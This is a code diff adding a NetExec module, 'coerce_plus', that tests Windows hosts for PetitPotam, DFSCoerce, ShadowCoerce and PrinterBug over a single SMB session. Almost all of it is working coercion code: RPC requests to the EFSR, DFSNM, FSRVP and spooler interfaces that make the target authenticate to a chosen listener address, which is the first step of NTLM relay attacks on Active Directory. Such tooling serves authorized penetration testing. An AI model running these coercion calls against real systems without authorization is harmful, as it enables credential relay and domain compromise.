@@ -0,0 +1,210 @@
+from impacket.dcerpc.v5 import rprn
+from impacket.dcerpc.v5.rpcrt import DCERPCException, RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, RPC_C_AUTHN_WINNT
+from impacket.dcerpc.v5.transport import SMBTransport
+from impacket.nmb import NetBIOSTimeout
+from impacket.smbconnection import SessionError
+from impacket.uuid import uuidtup_to_bin
+from nxc.modules.dfscoerce import NetrDfsRemoveStdRoot
+from nxc.modules.petitpotam import EfsRpcEncryptFileSrv, EfsRpcOpenFileRaw
+from nxc.modules.shadowcoerce import IsPathSupported
+
+
+class NXCModule:
+    """
+    Checks all coercion methods of the petitpotam, dfscoerce, shadowcoerce, printerbug and spooler modules in one pass.
+    The pipes are opened on the SMB session the host was logged in with, instead of one new authenticated connection per
+    method, and the results are stored with a single update of the host.
+    """
+
+    name = "coerce_plus"
+    description = "Check if the target is vulnerable to PetitPotam, DFSCoerce, ShadowCoerce and PrinterBug over one SMB session"
+    supported_protocols = ["smb"]
+    opsec_safe = True
+    multiple_hosts = True
+
+    METHODS = ["PetitPotam", "DFSCoerce", "ShadowCoerce", "PrinterBug"]
+
+    def __init__(self, context=None, module_options=None):
+        self.context = context
+        self.module_options = module_options
+        self.listener = None
+        self.methods = None
+        self.timeout = None
+
+    def options(self, context, module_options):
+        """
+        LISTENER    Listener Address (defaults to 127.0.0.1)
+        METHOD      Comma separated methods to check (default: all), any of PetitPotam, DFSCoerce, ShadowCoerce, PrinterBug
+        TIMEOUT     Seconds to wait for the answer of each interface (default: 5)
+        """
+        self.listener = module_options.get("LISTENER", "127.0.0.1")
+        self.timeout = int(module_options.get("TIMEOUT", 5))
+        self.methods = self.METHODS
+        if "METHOD" in module_options:
+            methods = {method.strip().lower() for method in module_options["METHOD"].split(",")}
+            self.methods = [method for method in self.METHODS if method.lower() in methods]
+            if not self.methods:
+                context.log.fail(f"Invalid METHOD, must be any of {', '.join(self.METHODS)}")
+
+    def on_login(self, context, connection):
+        checks = CoercionChecks(context, connection, self.listener)
+        results = {}
+
+        # Every check runs over the same SMB session, a hanging interface must not hold the others back
+        connection.conn.setTimeout(self.timeout)
+        try:
+            for method in self.methods:
+                results[method] = checks.run(method)
+        finally:
+            connection.conn.setTimeout(connection.args.smb_timeout)
+
+        for method, vulnerable in results.items():
+            if vulnerable:
+                context.log.highlight(f"VULNERABLE, {method}")
+            elif vulnerable is None:
+                context.log.debug(f"Could not check {method}")
+            else:
+                context.log.debug(f"Target is not vulnerable to {method}")
+
+        try:
+            context.db.add_host(
+                connection.host,
+                connection.hostname,
+                connection.domain,
+                connection.server_os,
+                connection.smbv1,
+                connection.signing,
+                spooler=checks.spooler,
+                petitpotam=results.get("PetitPotam"),
+            )
+        except Exception as e:
+            context.log.debug(f"Error updating coercion status in database: {e}")
+
+
+class CoercionChecks:
+    """Binds the coercion interfaces over the named pipes of the existing SMB session of a connection.
+
+    The checks return True if the target is vulnerable, False if it is not and None if the interface could not be
+    reached, so that a timeout does not overwrite a previous result in the database.
+    """
+
+    def __init__(self, context, connection, listener):
+        self.context = context
+        self.connection = connection
+        self.listener = listener
+        self.spooler = None
+
+    def bind(self, pipe, interface, authenticated=False):
+        rpc_transport = SMBTransport(self.connection.conn.getRemoteHost(), self.connection.port, f"\\{pipe}", smb_connection=self.connection.conn)
+        dce = rpc_transport.get_dce_rpc()
+        if authenticated:
+            dce.set_credentials(*rpc_transport.get_credentials())
+            dce.set_auth_type(RPC_C_AUTHN_WINNT)
+            dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
+            if self.connection.kerberos:
+                rpc_transport.set_kerberos(self.connection.kerberos, self.connection.kdcHost)
+                dce.set_auth_type(RPC_C_AUTHN_GSS_NEGOTIATE)
+        dce.connect()
+        dce.bind(interface)
+        self.context.log.debug(f"Bound to \\pipe\\{pipe} over the existing SMB session")
+        return dce
+
+    def run(self, method):
+        try:
+            return getattr(self, method.lower())()
+        except NetBIOSTimeout:
+            self.context.log.debug(f"{method} timed out")
+        except Exception as e:
+            self.context.log.debug(f"{method} failed: {e}")
+        return None
+
+    def petitpotam(self):
+        for pipe, interface in (("lsarpc", ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")), ("efsrpc", ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))):
+            try:
+                dce = self.bind(pipe, uuidtup_to_bin(interface), authenticated=True)
+            except (SessionError, DCERPCException) as e:
+                self.context.log.debug(f"Could not bind EFSR on \\pipe\\{pipe}: {e}")
+                continue
+            try:
+                request = EfsRpcOpenFileRaw()
+                request["fileName"] = f"\\\\{self.listener}\\test\\Settings.ini\x00"
+                request["Flag"] = 0
+                dce.request(request)
+            except NetBIOSTimeout:
+                raise
+            except Exception as e:
+                if str(e).find("rpc_s_access_denied") < 0:
+                    return str(e).find("ERROR_BAD_NETPATH") >= 0
+                self.context.log.debug("EfsRpcOpenFileRaw is probably patched, sending EfsRpcEncryptFileSrv")
+                try:
+                    request = EfsRpcEncryptFileSrv()
+                    request["FileName"] = f"\\\\{self.listener}\\test\\Settings.ini\x00"
+                    dce.request(request)
+                except NetBIOSTimeout:
+                    raise
+                except Exception as e:
+                    return str(e).find("ERROR_BAD_NETPATH") >= 0
+            finally:
+                dce.disconnect()
+            break
+        return False
+
+    def dfscoerce(self):
+        try:
+            dce = self.bind("netdfs", uuidtup_to_bin(("4FC742E0-4A10-11CF-8273-00AA004AE673", "3.0")))
+        except (SessionError, DCERPCException) as e:
+            self.context.log.debug(f"Could not bind DFSNM: {e}")
+            return False
+        try:
+            request = NetrDfsRemoveStdRoot()
+            request["ServerName"] = f"{self.listener}\x00"
+            request["RootShare"] = "test\x00"
+            request["ApiFlags"] = 1
+            dce.request(request)
+        except Exception as e:
+            self.context.log.debug(f"NetrDfsRemoveStdRoot: {e}")
+        finally:
+            dce.disconnect()
+        return True
+
+    def shadowcoerce(self):
+        try:
+            dce = self.bind("FssagentRpc", uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")), authenticated=True)
+        except (SessionError, DCERPCException) as e:
+            self.context.log.debug(f"Could not bind FSRVP: {e}")
+            return False
+        try:
+            request = IsPathSupported()
+            # only NETLOGON and SYSVOL were detected working here
+            request["ShareName"] = f"\\\\{self.listener}\\NETLOGON\x00"
+            dce.request(request)
+        except NetBIOSTimeout:
+            raise
+        except Exception as e:
+            self.context.log.debug(f"IsPathSupported: {e}")
+            return False
+        finally:
+            dce.disconnect()
+        return True
+
+    def printerbug(self):
+        try:
+            dce = self.bind("spoolss", rprn.MSRPC_UUID_RPRN)
+        except (SessionError, DCERPCException) as e:
+            self.context.log.debug(f"Could not bind RPRN: {e}")
+            self.spooler = False
+            return False
+        self.spooler = True
+        try:
+            resp = rprn.hRpcOpenPrinter(dce, f"\\\\{self.connection.host}\x00")
+            request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
+            request["hPrinter"] = resp["pHandle"]
+            request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
+            request["pszLocalMachine"] = f"\\\\{self.listener}\x00"
+            dce.request(request)
+        except Exception as e:
+            self.context.log.debug(f"RpcRemoteFindFirstPrinterChangeNotificationEx: {e}")
+        finally:
+            dce.disconnect()
+        return True
+